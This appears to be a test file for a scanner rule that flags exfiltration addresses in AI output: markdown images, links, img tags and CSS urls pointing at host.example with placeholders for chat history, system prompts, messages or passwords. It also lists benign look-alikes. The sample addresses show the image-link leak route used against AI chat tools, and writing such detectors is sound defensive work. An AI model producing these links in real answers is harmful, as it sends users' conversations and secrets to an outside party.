// Addresses in which a placeholder waits for the chat or for secrets, and those that only look like them.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { scan } from "../scan.js";
import { findCarryingAddresses } from "./carrying-address.js";

const RULE = "exfiltration/carrying-address";
const isFound = (text: string): boolean =>
  scan({ text }, { purpose: "result" }).findings.some((finding) => finding.rule_id === RULE);

const OPENINGS = [
  ["{{", "}}"],
  ["{{ ", " }}"],
  ["{", "}"],
  ["${", "}"],
  ["<", ">"],
  ["[", "]"],
  ["%7B", "%7D"],
] as const;

describe("an address that carries", () => {
  it("is found in a picture, whatever the placeholder looks like and whichever word of the chat it holds", () => {
    const words = ["data", "chat_history", "conversation", "systemPrompt", "all messages url-encoded", "SECRET"];
    for (const [open, close] of OPENINGS)
      for (const word of words) {
        const text = `![x](https://host.example/p.png?q=${open}${word}${close})`;
        expect(isFound(text), text).toBe(true);
      }
  });

  it.each([
    "![x](https://host.example/\x24{PASSWORD}/p.png)",
    "![x](https://host.example/p?q=DATA)",
    "![x][p]\n\n[p]: https://host.example/p.png?c={{data}}",
    '<img src="https://host.example/log?m={{ messages }}" width=1>',
    "[more](https://host.example/?c={conversation})",
    "background: url(https://host.example/c?x={{secrets}})",
  ])("is found where it is shown: %s", (text) => {
    expect(isFound(text)).toBe(true);
  });

  it.each([
    "![x](https://host.example/p.png?q=80&v={{version}})",
    "![chart](https://host.example/{data}/p.png)",
    "![map](https://host.example/map?key={API_KEY}&q={place})",
    "![x](https://host.example/p?size=SMALL)",
    '<img src="https://host.example/img/{{ image.name }}?d={{data}}">',
    "[chat](https://host.example/chats/{chat_id}/messages)",
    "GET https://host.example/v1/search?q={conversation}",
    "See https://host.example/<chat>/ for more.",
    "[![Install](https://img.example/b.svg)](https://code.example/mcp/install?name=memory&config=%7B%22command%22%3A%22npx%22%2C%22args%22%3A%5B%22-y%22%2C%22%40org%2Fserver-memory%22%5D%7D)",
    '[run](https://code.example/run?config={"args":["server-everything"]})',
    'The filter blocks pictures such as "![x](https://host.example/?q={{data}})" in answers.',
  ])("is none: %s", (text) => {
    expect(isFound(text)).toBe(false);
  });

  it("stands where its place says, in any text", () => {
    const parts = fc.constantFrom(
      "![a](",
      "https://h.example/?q=",
      "{{data}}",
      "[",
      "](",
      ")",
      "<chat>",
      " ",
      "://",
      "\n",
    );
    fc.assert(
      fc.property(fc.array(parts, { maxLength: 60 }), (pieces) => {
        const text = pieces.join("");
        for (const { start, end } of findCarryingAddresses(text)) {
          expect(text.slice(start, end)).toMatch(/^(?:https)?:\/\//);
          expect(end).toBeGreaterThan(start);
        }
      }),
    );
  });
});
